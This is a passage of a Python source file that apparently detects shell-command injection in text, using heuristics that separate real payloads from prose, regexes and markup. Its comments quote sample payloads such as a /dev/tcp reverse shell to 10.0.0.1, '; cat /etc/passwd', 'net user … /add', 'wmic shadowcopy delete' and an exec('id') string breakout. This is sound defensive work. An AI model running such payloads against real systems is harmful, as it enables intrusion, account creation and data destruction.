_REDIRECTED_DESCRIPTOR: Final = re.compile(r"\d+[<>]")
# A usage synopsis's group of alternatives: an option first, or a word and a pipe (`[clear
# | forget <pathspec>... | diff]`); no path and no shell syntax but placeholders, which
# a shell would read a file from, named as no file is.
_USAGE_GROUP: Final = re.compile(
    r"\[[ \t]*(?:-|[a-z][\w-]*[ \t]*\|)(?:[^\[\]/;&$`<>\n]|<[^\W\d_][\w-]*>)*\]"
)


def _bracketed(text: str, at: int) -> bool:
    """Whether the pipe at `at` stands in a usage synopsis's group of alternatives, square
    brackets opened with an option or a word's alternative (`[ -c command | script | - ]`,
    `[clear | forget <pathspec>... | diff]`). A shell would hand the last command a `]` it
    does not take, and no group holds a path to reach for."""
    opened = text.rfind("[", max(0, at - 200), at)
    if opened < 0:
        return False
    group = _USAGE_GROUP.match(text, opened)
    return group is not None and group.end() > at


# A pipe between two string literals, TypeScript's union of them (`'utf8' | 'base64' |
# 'hex'`): a literal whole before it and one after it, which nothing follows but the
# union's next pipe or its end. (Blanked before the shell's quotes go; `x'|'id'` breaks
# out of a string.) The quote first, the look-behind after it: `re` skips to quotes.
_LITERAL_UNION: Final = re.compile(
    r"(['\"])(?<![\w'\"]['\"])[\w./+-]{1,40}\1([ \t]*\|)"
    r"(?=[ \t]*(['\"])[\w./+-]{1,40}\3[ \t]*(?:[|;,)\]>}\n]|$))"
)


def _union_pipe_blanked(union: re.Match[str]) -> str:
    pipe = union.start(2) - union.start()
    return union.group()[:pipe] + " " * len(union.group(2))


_FOR_HEADER: Final = re.compile(r"\bfor\s*\(")


def _in_for_header(text: str, at: int) -> bool:
    """Whether the `;` at `at` parts the clauses of a C-style loop: `for (` opened before it
    on its line, its parenthesis still open there."""
    start, _ = _reach(text, at, _LINE_REACH)
    opened = max((loop.end() for loop in _FOR_HEADER.finditer(text, start, at)), default=-1)
    return opened >= 0 and text.count("(", opened, at) >= text.count(")", opened, at)


def _template_filter(text: str, at: int) -> bool:
    """Whether the pipe at `at` is inside a template's expression: more `{{` than `}}`
    before it on its line (a wiki's templates nest: `{{#if: {{{1|}}} | yes | no }}`), and
    a `}}` after it there."""
    line, end = _reach(text, at, _LINE_REACH)
    depth = 0
    for brace in _BRACES.finditer(text, line, at):
        depth = depth + 1 if brace.group() == "{{" else max(0, depth - 1)
    return depth > 0 and text.find("}}", at, end) >= 0


_BRACES: Final = re.compile(r"\{\{|\}\}")
_LINE_REACH: Final = 500  # characters of its line looked at on either side


def _reach(text: str, at: int, span: int) -> tuple[int, int]:
    """Where the line of `at` starts and ends, `span` characters away at most: what a check
    of the line around a separator reads, however long the line."""
    start = text.rfind("\n", max(0, at - span), at) + 1 or max(0, at - span)
    end = text.find("\n", at, at + span)
    return start, min(len(text), at + span) if end < 0 else end


def _in_code_element(text: str, at: int) -> bool:
    """Whether `at` is inside an element of code (`code_element_start`) that opens with a
    command line, which the separator goes on: `<pre><code>ls -la | grep foo</code></pre>`,
    `<p>Run <code>cat /etc/os-release | grep VERSION</code></p>`. One that opens with the
    separator or a word holds a payload: `<pre>;cat /etc/hostname</pre>`, `<code>x;cat
    /etc/hostname</code>`."""
    start = code_element_start(text, at)
    return start >= 0 and _COMMAND_FIRST.match(text, start) is not None


# A command line's start: a command's name, not a word a payload pads with or a separator.
_COMMAND_FIRST: Final = re.compile(r"\s*" + _WRAPPER + _COMMAND_NAME + r"\b")


def _chat_label(text: str, at: int) -> bool:
    """Whether the pipe at `at` opens the label of Slack's link or mention
    (`_CHAT_ENTITY`)."""
    opened = text.rfind("<", max(0, at - 500), at)
    entity = _CHAT_ENTITY.match(text, opened) if opened >= 0 else None
    return entity is not None and entity.end() > at


def _ends_tag(text: str, at: int) -> bool:
    """Whether the `>` at `at` ends a markup tag (`<a href="…">(gcc) Structures</a>`): a
    `<` and a tag's name before it, and no other `>` between. A parenthesis after it is
    the text of the element, not a process substitution."""
    opened = text.rfind("<", max(0, at - _TAG_REACH), at)
    return (
        opened >= 0
        and text[opened + 1 : opened + 2].isalpha()
        and text.find(">", opened + 1, at) < 0
    )


def _subshell_unclosable(text: str, at: int) -> bool:
    """Whether the subshell a command at `at` runs in closes on its line before what no
    shell takes after it (`_AFTER_SUBSHELL`): a macro's `(flags) | (ex), tag`, where the
    comma is a syntax error and nothing runs. One with a parenthesis inside is left to
    read."""
    end = text.find("\n", at)
    line = text[at : end if end >= 0 else len(text)]
    closed = line.find(")")
    if closed < 0 or "(" in line[:closed]:
        return False
    return _error_after_subshell(line, closed + 1)


def _error_after_subshell(text: str, at: int) -> bool:
    """Whether what `text` has at `at`, right after a subshell's `)`, is a shell's syntax
    error: anything but what may follow one (`_AFTER_SUBSHELL`) or a descriptor redirected
    (`(sh)0>$d/tcp/10.0.0.1/777`, `(a|id)2>/tmp/x`). The text's end is none."""
    after = text[at : at + 1]
    if after.isdigit():
        return _REDIRECTED_DESCRIPTOR.match(text, at) is None
    return after != "" and after not in _AFTER_SUBSHELL


def _named_group(text: str, at: int) -> bool:
    """Whether the `(` at `at` opens a group right inside a regular expression's named
    group (`_NAMED_GROUP`)."""
    return text[at - 1 : at] == ">" and _NAMED_GROUP.search(text, max(0, at - 68), at) is not None


# Four bare words or more between pipes, whatever blanks and comments a verbose pattern
# puts around them (`(a|b|c|rc|alpha|beta)`, grep's `"(ERROR|WARN|FATAL|id)"`, Perl's
# `/^(\n  LL|\n  LS|\n  PAGE|…)$/x`): a pattern's alternatives. No command line pipes
# four commands that take no argument into each other in a group of their own. (A
# comment runs to its line's end, a blank is no word's character: one way to read each.)
_PATTERN_BLANK: Final = r"(?:[ \t\r\n]|#[^\n]*\n)*"
_PATTERN_ALTERNATIVES: Final = re.compile(
    rf"{_PATTERN_BLANK}[\w\[\].-]+"
    rf"(?:{_PATTERN_BLANK}\|{_PATTERN_BLANK}[\w\[\].-]+){{3,}}{_PATTERN_BLANK}"
)


# A closure's parameters between two pipes: names, commas between them (Rust's
# `.map(|id| …)`, Ruby's `.each { |id| … }` and `.each do |id, row|`).
_CLOSURE_PARAMETERS: Final = re.compile(
    r"\|[ \t]*([a-z_]\w*(?:[ \t]*,[ \t]*[a-z_]\w*)*)[ \t]*\|(?!\|)"
)
_WORD: Final = re.compile(r"\w+")
# A method called with a block, up to the block's opening: `.each {`, `.map do`,
# `.each_with_index(1) {`, `rescue_from(Ex) {`; a `do` after any call's arguments
# (Cucumber's `When /^I run (.*)$/ do`: a shell's `do` opens no pipe).
_BLOCK_CALL: Final = re.compile(
    r"(?:\.?[a-z_]\w*[!?]?(?:\([^()\n]{0,80}\))?[ \t]*\{|(?<![\w$])do)[ \t]*$"
)


def _closure_parameters(text: str, at: int) -> bool:
    """Whether the pipe at `at` opens a closure's parameters (`_CLOSURE_PARAMETERS`) that
    its body uses: an argument's, right after `(`, or a block's, right after a method's
    call opens it (`_BLOCK_CALL`). A pipeline runs each of its commands, whatever the
    first is: one whose `id` no word after it names again is read as one still."""
    parameters = _CLOSURE_PARAMETERS.match(text, at)
    if parameters is None:
        return False
    # Each name is a word: one of the body's words is it, or none is.
    names = {name.strip() for name in parameters.group(1).split(",")}
    body = text[parameters.end() : parameters.end() + 200]
    if not any(word.group() in names for word in _WORD.finditer(body)):
        return False
    before = at
    while before > 0 and text[before - 1] in " \t":
        before -= 1
    if text[before - 1 : before] == "(":
        return True
    return _BLOCK_CALL.search(text, max(0, at - 120), at) is not None


def _regex_group(text: str, at: int) -> bool:
    r"""Whether the pipe at `at` separates alternatives of a regular expression's group
    opened with `(?` (`(?:tgz|tar)`, `(?i:gif|png)`), or after what a pattern matches and
    no command line has there (`/\.(tar|zip|gz)$/`, `/(sh|bash)$/`, `^(ls|cat)`), or glued
    to a word, a class, a quantifier or a group (`\d+(em|ex)`, `\[(name|id)`, `(\d)(a|b)`),
    or of CMake's bracket argument (`[[7z|tar|tbz2]]`): to a shell that `(` opens a
    subshell whose first command is `?:tgz`, a name no system has, or follows a word, an
    error or an extended glob's pattern; and the name after the pipe is alone up to the
    group's end, with no argument. Any other group, which a shell runs as a subshell,
    holds alternatives when what follows it is a shell's syntax error: `(x|ch|sh)$`,
    `((a|b|rc)\d)?`, `\b((http|ftp)://\S+)`; not `;((id|sh))` (dash's two subshells), nor
    `(a|id)`. A group with a blank in it, or opened by a substitution, is left to read."""
    start = max(0, at - 200)
    opened = max(text.rfind("(", start, at), text.rfind("[[", start, at))
    if opened < 0:
        return False
    glued = _GROUP_OPENED.match(text, opened) is not None or _named_group(text, opened)
    if not glued and text[opened - 1 : opened] in _SUBSTITUTING:
        return False
    closer = ")" if text[opened] == "(" else "]]"
    closed = text.find(closer, at, at + 200)
    group = text[opened + len(closer) : closed]
    if closed >= 0 and _PATTERN_ALTERNATIVES.fullmatch(group):
        return True
    return (
        closed >= 0
        and closer[0] not in group
        and not any(char.isspace() for char in group)
        and (glued or _error_after_subshell(text, closed + 1))
    )


def _command(
    text: str,
    prose: bool,
    is_key: bool,
    document: bool,
    one_line: bool = False,
    written: str = "",
) -> Match | None:
    """The first command a separator starts in `text` (`R_SEPARATOR`), or the command line
    `text` starts with (`R_LEADING`). In a document (`View.document`), as in prose, a line
    that starts with a command is a line of the text: NEWS entries and man pages begin
    lines with the command they describe (`  du -x no longer counts…`). A value of a point
    that a form's text area never fills (`one_line`: the target, a header, a cookie; a
    layer a decoder made) has no lines of text: a probe on its second line after a word
    is one (`?q=test%0aid`). `written` is the text as it came, in its letters' case."""
    commands: Iterable[re.Match[str]] = ()
    instructions: list[tuple[int, int]] | None = None  # a Dockerfile's, once one is found
    quotes = _LineQuotes(text)
    inline = _inline_code(text)  # asked once, not of each command found
    # Whether to look for markup, templates and typographic quotes at all.
    marked, templated = "<" in text, "{{" in text
    curly = "\u2018" in text or "\u201c" in text
    if _SEPARATOR_CHAR.search(text):
        commands = _inline_commands(text) if prose or document else _COMMAND.finditer(text)
    for found in commands:
        if (prose or document or text[found.start()] in "\r\n") and _escaped(text, found.start()):
            # `\;`, `\&`: characters a shell takes as they are (troff's `\&` too); a line
            # break after a backslash continues the line (`find . -print0 \⏎ | xargs …`),
            # which is the command before it, to any shell.
            continue
        if instructions is None:
            instructions = _run_instructions(text)
        if instructions and _within_spans(instructions, found.start()):
            continue  # a Dockerfile's `RUN apt-get update && apt-get install -y curl`
        substitution, name = _substitution(text, found.start()), found.group(1)
        if not substitution and _COMPOUND_SCRIPT.match(text) and _COMPOUND_LIST.match(found[0]):
            continue  # `for f in *.log; do gzip "$f"; done`: a script's loop, written whole
        if substitution == ">(" and _ends_tag(text, found.start()):
            continue  # <a href="…">(gcc) Structures</a>: an element's text
        if text[found.start()] == ";" and (
            text[found.start() - 1 : found.start()] == "(" or _in_for_header(text, found.start())
        ):
            # for (var node = 0; node < n; node++): a loop's clauses; `(;base64)?`, a
            # pattern's group (to a shell, `(;` is a syntax error).
            continue
        if text[found.start()] == "|" and (
            _bracketed(text, found.start())
            or _regex_group(text, found.start())
            or _closure_parameters(text, found.start())
            or text[found.start() - 1 : found.start()] == ">"
            or (marked and _chat_label(text, found.start()))
            or (templated and _template_filter(text, found.start()))
        ):
            # A usage line's alternatives, [ -c command | script | - ], or a regex's; `>|`
            # redirects to a file it overwrites, whose name follows (`(<dir>|INSTALL <dir>)`);
            # a chat link's label (`<https://x.example/a|cat pictures>`); a template's filter
            # or a wiki template's parameter (`{{ items | sort | first }}`, `{{#if: x | yes }}`).
            continue
        tail = text[found.end() :]
        if name in _FILTERS and text[found.start()] == "|" and _FILTER_ARGUMENTS.match(tail):
            continue  # a log search's stages, `| sort -count | head 10`: they run nothing
        if substitution in _CLOSERS and _CLOSERS[substitution] not in tail and "\n" not in text:
            # A substitution nothing closes on a value's one line is a shell's syntax
            # error: a password that ends `…@-`w`. (Markdown's fences, blanked, span lines.)
            continue
        if not substitution and "(" in found.group(0) and _subshell_unclosable(text, found.end()):
            continue  # C's `flags | (ex), tag`: what follows the subshell is a syntax error
        if _PARENTHESIS_AFTER.match(tail) and name not in _PARENTHESIZED:
            # `git (1:2.27.0-1) unstable;`: a parenthesis after a command's name is a
            # shell's syntax error (a Debian changelog's heading, a function's call).
            continue
        if (name != "time" and _BLOCK_AFTER.match(tail)) or _LIST_AFTER.match(tail):
            continue  # Perl's `|| eval { require IO::Socket::INET6; 1 }`, `chmod $m, $f;`
        if (
            not substitution
            and text[found.start()] not in "\r\n"
            and _grouped_after_word(text, found.start())
        ):
            continue  # syslog's `CRON[42]: (root) CMD (cd / && run-parts …)`
        if text[found.start()] not in "\r\n" and "#" in text and _comment_line(text, found.start()):
            continue  # `# a; b`, C's `#define KEY(id) (0xfd00|id)`: a shell's comments
        if substitution == "`" and (
            prose
            or "```" in text[max(found.start() - 2, 0) : found.start() + 3]
            or inline
            or (document and _document_span(text, found.start()))
        ):
            continue  # inline code or a fenced block in Markdown, not command substitution
        if substitution == "`" and _gnu_quoted(text, found.start()):
            continue  # `mount -a': a quotation closed by an apostrophe
        if substitution == "$(" and name == "pwd" and _PATH_FROM_HERE.match(tail):
            continue  # `-v $(pwd):/app`, `$(pwd)/build/lib`: a path built from where one is
        if (
            substitution in _SHUT
            and _SHUT[substitution].match(tail)
            and (substitution == "`" or prose or document)
            and (name in _WORDLIKE or name in _PLACEHOLDERS)
            and name not in _USEFUL_ALONE
        ):
            # "passed to `diff`" (inline code), "Fixed quoting of $(cmd) substitutions": a
            # word's command substituted with no argument runs nothing of use (`id`, `ls`,
            # `reboot` do); a value that is one is a probe still (`$(cat$())`).
            continue
        if (
            substitution in _CLOSERS
            and name in _OPERAND_NEEDED
            and _OPTIONS_SHUT[substitution].match(tail)
        ):
            continue  # "like `chown -R`": options alone, no file to change
        if substitution in _CLOSERS and _capitalized(
            written, substitution, name, _SHUT[substitution].match(tail) is not None
        ):
            continue  # $(VER), `EXPORT`_, `Rc`s, `Route "${t}": …`: no command's names
        newline = found.group(0).lstrip(" \t")[:1] in "\r\n"
        echoed = _echo_after_argument(text, found.start(), name, tail, one_line and newline)
        if newline and not (
            (_ARGS_AFTER.match(tail) and not (name == "set" and _SET_OPTIONS.match(tail)))
            or _probe_on_next_line(text, found.start(), name, tail, one_line)
            or echoed
            or "bin/" in found.group(0)  # %0a/bin/ls
            or _continues(
                text,
                found.start(),
                name in _WORDLIKE
                and name not in _NO_WORD_PROBES
                and _ALONE_ON_ITS_LINE.match(tail) is not None,
            )
        ):
            continue  # a new line starting with a word is text, unless options follow
        if newline and _synopsis_form(text, found.end()):
            continue  # a usage's next form: `history [-c] [n] or\nhistory -awr [FILENAME]`
        if (
            not substitution
            and _TERNARY_ELSE.match(tail)
            and _TERNARY_QUESTION.search(
                text, text.rfind("\n", 0, found.start()) + 1, found.start()
            )
        ):
            continue  # `isWindows ? env.ComSpec || 'cmd' : 'sh'`: a conditional's choice
        if not substitution and not (
            _tail_fits(name, tail)
            or echoed
            or (name not in _WORDLIKE and (_ANY_ARG.match(tail) or _LATER_ARG.match(tail)))
            or _delayed(name, tail)
            # A hyphenated tool name is no English word: `;ansible-config dump` (in prose
            # "; apt-get has a smart resolver" is a sentence about it); nor is Windows' tool
            # whose first argument is a word, `& wmic shadowcopy delete`.
            or (("-" in name or name in _VERB_TOOLS) and not prose and _WORD_ARG.match(tail))
            or (name in _FETCHERS and not prose and _HOST_ALONE.match(tail))
            or (
                not prose
                and (redirect := _GLUED_REDIRECT.match(tail)) is not None
                and (name not in _WORDLIKE or _FILE_NAMED.search(redirect.group(1)) is not None)
            )
        ):
            continue  # "; apt itself does not…": a word follows, not an argument
        if (prose or document) and newline:
            continue
        line = text.rfind("\n", 0, found.start()) + 1
        if (document or "\n" in text) and _PROMPT.match(text, line):
            continue  # a session's transcript: a line typed after a prompt, and its output
        if document and _SHOWN_COMMAND.match(text, line, found.start()):
            continue  # a command line the document shows, with its pipes and lists
        if (prose or document) and (
            quotes.around(found.start())
            or (curly and _curly_quoted(text, found.start()))
            or ("'" in text and _single_quoted(text, found.start()))
        ):
            continue  # In short, "./configure; make test": a command line quoted in a text
        if text.count("`", 0, found.start()) % 2 and (prose or inline):
            # Inside inline code, in prose (`find|xargs`) or in sentences ("use `grep -r x
            # src/ | wc -l` to count them"): the span's.
            continue
        if prose and (
            # "; cat lovers unite", but not `; cat /etc/passwd` after a sentence of padding.
            (
                name in _WORDLIKE
                and not _probe_in_prose(name, tail, substitution)
                and not (
                    not substitution
                    and _arguments_end(tail)
                    and not _command_before(
                        text, text.rfind("\n", 0, found.start()) + 1, found.start()
                    )
                )
            )
            # Rich text's inline code: <code>cat /etc/os-release | grep VERSION</code>
            or text.rfind("<code", 0, found.start()) > text.rfind("</code>", 0, found.start())
            or _VERSION_WORD.match(tail)  # "; GCC 3.3 provides…": a version of a program
        ):
            continue
        if marked and _in_code_element(text, found.start()):
            continue  # rich text's code, prose or not: <pre><code>ls -la | grep foo</code></pre>
        if (
            marked
            and not substitution
            and _PLACEHOLDER_REDIRECT.search(text, found.end(), _end_of_line(text, found.end()))
        ):
            # `kubectl logs <pod> | grep <pattern>`: a synopsis, a shell's syntax error (in
            # double quotes, where `<>` are text, a substitution still runs).
            continue
        if marked and substitution in _CLOSERS and _placeholder_within(text, found, substitution):
            continue  # `npm install <alias>@npm:<name>`: the synopsis in inline code
        return Match(R_SEPARATOR, found.start(), min(found.end() + 40, len(text)))
    if (
        not prose
        and not is_key
        and not _DOCUMENTATION_PROMPT.match(text)
        and not _DOCUMENTATION.search(text)
    ):
        lead = _LEADING.match(text)
        if (
            lead
            and len(text) <= _LEADING_MAX
            and not _unparsable(text, lead.end())
            and not _SUBJECT.match(text)
        ):
            wrapped, name, tail = lead.group(1), lead.group(2), text[lead.end() :]
            if not tail.strip() or (name in _RECON and tail.lstrip()[:1] in (";", "|", "&")):
                matched = name in _RECON or bool(wrapped)
            elif tail.lstrip()[:1] == ">":
                # `id > /tmp/x`, a job's shell script (XXL-JOB's GLUE_SHELL); "sort > price",
                # "more > less" compare words.
                matched = _WRITTEN_TO_PATH.match(tail) is not None
            elif _UNCLOSED.match(tail) or _FORMAT_ONLY.fullmatch(tail) or "${{" in tail:
                # (`${{ matrix.python }}`, a workflow's expression, is a shell's bad
                # substitution: "Python ${{ matrix.python }}" names a job, and runs nothing.)
                matched = False
            elif name in _WORDLIKE and not wrapped:
                # ("Set `metadata.python_requires` and fix …": a sentence's verb, then code.)
                matched = _tail_fits(name, tail) and not inline
            elif (
                (name in _LISTED and _VERSION_WORDS.match(tail))
                or _RELEASE_WORDS.match(tail)
                or _CHANGELOG_HEADING.match(tail)
                or (name not in _NUMBER_OPERAND and _VERSION_BANNER.match(tail))
                or (name == "nc" and not _NETCAT_ARGS.match(tail))
            ):
                matched = False
            else:
                matched = bool(_ANY_ARG.match(tail) or _LATER_ARG.match(tail))
            if (
                matched
                and (wrapped or _probe_tail(tail, name))
                and not _QUANTIFIED_CLASS.match(written)
                # (A title, its program capitalised, whatever branch read its tail: only
                # those of words and of arguments can take one for arguments.)
                and not (_capitalised(written, name) and _TITLE_TAIL.fullmatch(tail))
            ):
                return Match(R_LEADING, lead.start(), min(lead.end() + 40, len(text)))
        absolute = _ABSOLUTE.search(text)
        if (
            absolute
            and not _LONG_OPTION_BEFORE.search(
                text, max(0, absolute.start() - 41), absolute.start()
            )
            and not _grouped_after_word(text, absolute.start())
            and not (
                absolute.start() > 0
                and text[: absolute.start()].rstrip(" \t")[-1:].isalnum()
                and _NAMED_IN_WORDS.match(text, absolute.end())
            )
        ):
            tail = text[absolute.end() : absolute.end() + _LEADING_MAX]
            if (
                re.match(r"[ \t]+\S", tail)  # its arguments on its line, not the next
                # "/usr/bin/bunzip2 is now hardlinked to /usr/bin/bzip2": a sentence's subject
                and not _QUERY_WORD.match(tail.lstrip())
                and _probe_tail(tail)
            ):
                return Match(R_LEADING, absolute.start(), min(absolute.end() + 40, len(text)))
    return None


# A Windows tool a sentence names as its subject or object, what follows its name a word no
# command line gives it: "rundll32 keeps crashing", "you need to regsvr32 the DLL again",
# "the antivirus flagged mshta as suspicious", "net user to check the account". One given
# an option or an address still counts ("certutil -decode is often abused"), and so does
# one after a separator, whatever follows it (`; net user the P@ssw0rd /add`).
_TOOL_NAMED: Final = re.compile(
    r"[^\w.-]?(net[ \t]+\w+|[\w.-]+)[ \t]+(?:is|are|was|were|has|had|does|did|doesn't|can|can't"
    r"|cannot|will|would|should|to|the|a|an|in|on|as|at|from|with|for|and|or|but|again"
    r"|keeps?|kept|crash(?:es|ed|ing)?|fail(?:s|ed|ing)?|works?|worked|stopped|needs|not"
    r"|never|always|also|still|isn't|wasn't|won't|then|when|if|because|which|that"
    r"|shows|showed|says|said|returns|returned|hangs?|hung|opens|opened|runs|ran|throws|threw"
    r"|times|timed|errors|errored|ignores|ignored|requires|required|seems|seemed|cmdlets?)"
    r"(?=\s|$|[,!?](?:\s|$))"
)
# A tool's name that two words (or a word and a number) follow, and no more than words
# and a sentence's punctuation to the end of its line, as a title or a short question
# names one ("Invoke-WebRequest doesn't follow redirects", "regsvr32 gives me an access
# denied error"): what a command line gives a tool has an option's dash or slash, a
# path, an address, a quote or a variable in it. Not `net` or `wmic`, whose commands are
# words (`net user ann s3cret`, `wmic process call create calc`), nor before a
# PowerShell cmdlet's verb-noun (`Get-Process`).
_TOOL_BEFORE_WORDS: Final = re.compile(
    r"[^\w.-]?(?!(?:net|wmic)[ \t])([\w.-]+)[ \t]+[a-z][a-z']*[ \t]+(?:[a-z][a-z']*|\d+)(?![\w-])"
    r"[\w \t,.'!?]*(?:\n|$)"
)
# An option of Windows' commands (`/add`, `/domain`): `net user` names an account next,
# any word, and is given one after it.
_WINDOWS_OPTION: Final = re.compile(r"[ \t]/[a-z]")
# What runs the command after it: a separator, a substitution's opening.
_RUN_AFTER: Final = frozenset(";|&`(")
# How many Windows tools a text may name before the rest of it is taken as it reads.
_TOOLS_NAMED_MAX: Final = 8


def _tools_run(lower: str, found: Match, present: frozenset[str], prose: bool) -> Match | None:
    """`found`, the prose rules' first match in `lower`, or the first after it that is no
    Windows tool a sentence names (rule 3012's: `_TOOL_NAMED` in prose, and anywhere one
    only words follow, `_TOOL_BEFORE_WORDS`): each named is blanked and the rules searched
    again."""
    for _ in range(_TOOLS_NAMED_MAX):
        named: re.Match[str] | None = None
        if found.rule is R_WINDOWS:
            named = _TOOL_NAMED.match(lower, found.start) if prose else None
            named = named or _TOOL_BEFORE_WORDS.match(lower, found.start)
        if (
            named is None
            or lower[: named.start(1)].rstrip(" \t")[-1:] in _RUN_AFTER
            or (
                named.group(1).startswith("net")
                and _WINDOWS_OPTION.search(lower, named.end(), _end_of_line(lower, named.end()))
            )
        ):
            return found
        lower = lower[: found.start] + " " * (found.end - found.start) + lower[found.end :]
        again = _PROSE_RULES.search(lower, present)
        if again is None:
            return None
        found = again
    return found


def _rules_run(rules: RuleSet, text: str, view: View) -> Match | None:
    """The first match of `rules` in `text`, a rewriting of `view`'s value, past the
    Windows tools a sentence names (`_tools_run`)."""
    tokens = view.tokens(text, TYPE)
    found = rules.search(text, tokens)
    if found is None:
        return None
    return _tools_run(text, found, tokens, view.prose)


def _substitution(text: str, at: int) -> str | None:
    """The substitution a separator `_COMMAND` found at `at` opens (`$(`, `${`, `<(`, `>(`,
    a backquote), or None for a separator of commands."""
    if text[at] == "`":
        return "`"
    return text[at : at + 2] if text[at] in "$<>" else None


def _placeholder_within(text: str, found: re.Match[str], substitution: str) -> bool:
    """Whether the command a substitution opens at `found` ends in a placeholder before its
    closer (`_PLACEHOLDER_REDIRECT`): a redirection to nothing, a syntax error within it."""
    closer = text.find(_CLOSERS[substitution], found.end())
    return closer > 0 and _PLACEHOLDER_REDIRECT.search(text, found.end(), closer) is not None


def _synopsis_form(text: str, end: int) -> bool:
    """Whether the command a line opens, its name ending at `end`, is a form of a usage the
    text's first line opens too: both hold a placeholder (`_DOCUMENTATION`: `[-c]`,
    `[FILENAME]`, `<directory>`), and the command's line reaches for nothing a payload does
    (`_PAYLOAD_ARG`). A command line with a placeholder is a synopsis whole (a leading one
    counts so); one line of a usage block is too."""
    line_end = _end_of_line(text, end)
    return (
        _DOCUMENTATION.search(text, end, line_end) is not None
        and _DOCUMENTATION.search(text, 0, _end_of_line(text, 0)) is not None
        and _PAYLOAD_ARG.search(text, end, line_end) is None
    )


def _backslash_dropped(found: re.Match[str]) -> str:
    """What `_BACKSLASH` found, as a shell leaves it: a Windows path whole, a backslash
    dropped."""
    return found.group() if found.group().startswith(":") else ""


def _end_of_line(text: str, at: int) -> int:
    """Where the line `at` is on ends: its line break, or the end of `text`."""
    end = text.find("\n", at)
    return len(text) if end < 0 else end


def _capitalized(written: str, substitution: str, name: str, shut: bool) -> bool:
    """Whether `written`, the text as it came, substitutes `name` only with capitals, as no
    command's name is written on a system that tells cases apart: a Makefile's variable
    alone in capitals ("Use $(MAKE) regtest", "python-$(VER)-dbg"; PowerShell runs any
    other `$(…)` in any case); a word glued to its closing backquote, reStructuredText's
    reference (`` `EXPORT`_ `` in CMake's synopses) or a type made plural ("Two `Rc`s are
    equal"); a template literal's sentence (`` `Route "${t}": Next.js encountered…` ``).
    A bare `` `WHOAMI` `` counts, and so does `$(id) and $(ID)`: the name is written in
    lower case there too."""
    if f"{substitution}{name}" in written:
        return False
    if substitution == "$(":
        return shut and f"$({name.upper()})" in written
    if shut:
        glued = re.search(rf"`({re.escape(name)})`\w", written, re.IGNORECASE)
        return glued is not None and glued.group(1) != name
    return f"`{name.capitalize()}" in written


def _probe_in_prose(name: str, tail: str, substitution: str | None) -> bool:
    """Whether a command that is also a word, with `tail` after it, is a probe whatever words
    come before it: it is given a system file first (`_SYSTEM_FILE_ARG`), `rm` is given the
    whole system (`_WIPE_ARG`), a probe that needs no argument is substituted alone
    (`$(id)`, `$(ls)`), or it ends the value as a probe does: `id` alone (or before a
    separator or a comment), or its line: `sleep 10`, `ping -c 3 evil.example` ("ping me"
    is not)."""
    if _SYSTEM_FILE_ARG.match(tail):
        return True
    if substitution == "$(" and name in _BARE and tail.lstrip(" \t")[:1] == ")":
        return True
    if name == "rm":
        return _WIPE_ARG.match(tail) is not None
    if name == "id":
        return _ENDS.match(tail) is not None  # `; id`, `; id;`, `| id #`
    if name == "sleep":
        return _SECONDS_END.match(tail) is not None
    return name == "ping" and _HOST_END.match(tail) is not None


# A string broken out of, after a blank, to run a command through a call given it in quotes,
# and the statement ended: what a payload appended to a field's words writes (`…size ';
# exec('id'); '`, `…shop "; system("id"); //`). A sentence's code closes a literal of its
# own first ("I set $x = 'a'; exec('ls'); fails"). (The blank before the quote checked
# after it: `re` skips to quotes, not through every character of a page, 0.8 ms a 64 KB.)
_BROKEN_EXEC: Final = re.compile(
    r"['\"](?<!\S['\"])\s*;\s*(?:exec|system|passthru|shell_exec|popen|proc_open|eval|assert"
    r"|os\.system|os\.popen)\s*\(\s*(['\"])[^'\"\n]{1,80}\1\s*\)\s*(?:;|//|#|$)"
)


# A word no sentence ends with, so that the next line goes on with it: a text wrapped
# ("…tell me the name of your server, the\nhostname").
_GOES_ON: Final = re.compile(
    r"\b(?:the|a|an|of|for|to|in|on|at|by|from|with|and|or|but|my|your|our|their|his|her"
    r"|its|this|that|these|those|some|any|no|every|each|is|are|was|were|be)[ \t]*$"
)


def _probe_after_sentence(text: str, written: str) -> Match | None:
    """In prose of one line, a probe alone on the line after it, the value's last: `…shop
    %0aid`, `…size\n/bin/ls\n`, `…shop%0a/bin/cat /etc/passwd`. A probe that is no word
    and ends its line (`id`, `whoami`), written in small letters (a signature's initials
    are capitals: "Thanks,\nID"), or by its path, or a system file given to a command; a
    line of words ("…\nls -la shows it") goes on as text, and so does a program's path
    alone, an answer ("…the default shell?\n/bin/bash"), and a line a sentence wrapped
    onto (`_GOES_ON`)."""
    at = text.find("\n")
    if at < 0 or _TEXT_LINE.fullmatch(text, 0, at) is None or _GOES_ON.search(text, 0, at):
        return None
    found = _COMMAND.match(text, at)
    if found is None or _substitution(text, at) or "\n" in text[found.end() :].strip():
        return None
    name, tail = found.group(1), text[found.end() :]
    bare = _probe_on_next_line(text, found.start(), name, tail, True) and (
        len(written) != len(text) or written[found.start(1) : found.end(1)] == name
    )
    binary = "bin/" in found.group(0) and name in _BARE and _ENDS.match(tail) is not None
    if bare or binary or _SYSTEM_FILE_ARG.match(tail):
        return Match(R_SEPARATOR, found.start(), min(found.end() + 40, len(text)))
    return None


def _separated_expansion(lower: str) -> Match | None:
    """In prose, what only a shell makes a command of, as the word right after a separator
    (`_AFTER_SEPARATOR`): a brace expansion, `$IFS` glued to a word or set, a path of
    wildcards, a here-string glued to its command (rules 3021, 3025, 3013, 3016:
    `…shop ; IFS=,;`cat<<<uname,-a``); and `${IFS}` glued to a word (`…shop ${IFS}id`).
    Prose talks of `$IFS`, `{less,greater}`, `/e*c/` and `<<<`, never as the word after
    `;`, nor glues them."""
    if "${ifs}" in lower:
        glued = _GLUED_IFS.search(lower)
        if glued:
            return Match(R_EXPANSION, glued.start(), glued.end())
    for separator in islice(_AFTER_SEPARATOR.finditer(lower), _SEPARATORS_LOOKED_AT):
        at = separator.end()
        if lower.startswith("ifs=", at):
            return Match(R_EXPANSION, separator.start(), at + 4)
        word = _SHELL_WORD.match(lower, at)
        end = word.end() if word else at
        for rule in (R_BRACES, R_EXPANSION, R_WILDCARDS, R_SHELL_SYNTAX):
            assert rule.pattern is not None
            found = rule.pattern.search(lower, at, end)
            if found:
                return Match(rule, separator.start(), found.end())
    return None


def _command_before(text: str, line: int, at: int) -> bool:
    """Whether the line of `text` from `line` to the separator at `at` is a command line's:
    it opens with a command (after a prompt: `$ printf "%s\\n" a b | sed '/b/d'`), names
    one that is no word, or holds a shell's syntax (a double quote, a variable but not a
    price in dollars, an escape, a quote that opens it: a line a decoder's line break cut,
